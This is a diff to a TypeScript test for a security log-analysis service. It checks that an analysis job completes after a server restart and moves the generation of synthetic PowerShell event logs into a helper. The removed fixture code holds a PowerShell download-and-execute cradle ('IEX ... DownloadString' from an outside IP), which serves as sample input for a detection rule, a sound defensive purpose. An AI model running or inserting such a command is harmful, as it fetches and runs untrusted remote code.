@@ -1,51 +1,20 @@
 import type { ExportedFinding, JobDetail, JobProgress, SubmittedJob, Workflow } from '@svc/contracts';
-import { writeEvtx } from '@svc/engine/testing';
 import { openAsBlob } from 'node:fs';
-import { mkdtemp, open, rm } from 'node:fs/promises';
+import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, expect, it } from 'vitest';
+import { bigLog, writeBigLog } from '../support/big-log.ts';
 import { startServer, type Server } from '../support/server.ts';
-
-const headerBytes = 4096;
-const chunkBytes = 65_536;
-const copies = 3000;
-const suspicious = 3;
-const harmless = 60;
 
 let folder = '';
 let big = '';
 
-/** PowerShell script blocks, some of which the core pack has a rule for, as one chunk of a log. */
-function oneChunk(): Uint8Array {
-  const download = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
-  const texts = [
-    ...Array.from({ length: suspicious }, () => download),
-    ...Array.from({ length: harmless }, () => 'Get-Date'),
-  ];
-  return writeEvtx(
-    texts.map((text, index) => ({
-      provider: 'Microsoft-Windows-PowerShell',
-      providerGuid: '{a0c1853b-5c40-4b15-8766-3cf1c58f985a}',
-      eventId: 4104,
-      time: `2026-08-01T10:15:${String(index % 60).padStart(2, '0')}Z`,
-      channel: 'Microsoft-Windows-PowerShell/Operational',
-      computer: 'ws1.example.org',
-      data: { ScriptBlockText: text, Path: '' },
-    })),
-  );
-}
-
 beforeAll(async () => {
   folder = await mkdtemp(join(tmpdir(), 'svc-kill-'));
   big = join(folder, 'big.evtx');
-  const log = oneChunk();
-  if (log.length !== headerBytes + chunkBytes) throw new Error('the events do not fit one chunk');
-  const file = await open(big, 'w');
-  await file.write(log.subarray(0, headerBytes));
-  for (let copy = 0; copy < copies; copy++) await file.write(log.subarray(headerBytes));
-  await file.close();
+  await writeBigLog(big);
 });
 afterAll(() => rm(folder, { recursive: true }));
 
@@ -86,10 +55,10 @@ it('completes a job whose server was killed in mid-analysis', async () => {
     const progress = await when(second, id, ({ terminal }) => terminal);
     expect(progress.status).toBe('completed');
     const job = await get<JobDetail>(second, `/jobs/${id}`);
-    expect(job).toMatchObject({ events: copies * (suspicious + harmless), error: null });
+    expect(job).toMatchObject({ events: bigLog.events, error: null });
     const findings = await get<ExportedFinding[]>(second, `/jobs/${id}/findings.json`);
-    expect(findings).toMatchObject([{ rule_name: 'Script Block Downloads And Runs Code', count: copies * suspicious }]);
-    expect(job.total_findings).toBe(copies * suspicious);
+    expect(findings).toMatchObject([{ rule_name: 'Script Block Downloads And Runs Code', count: bigLog.matches }]);
+    expect(job.total_findings).toBe(bigLog.matches);
   } finally {
     await second.stop();
     await second.remove();
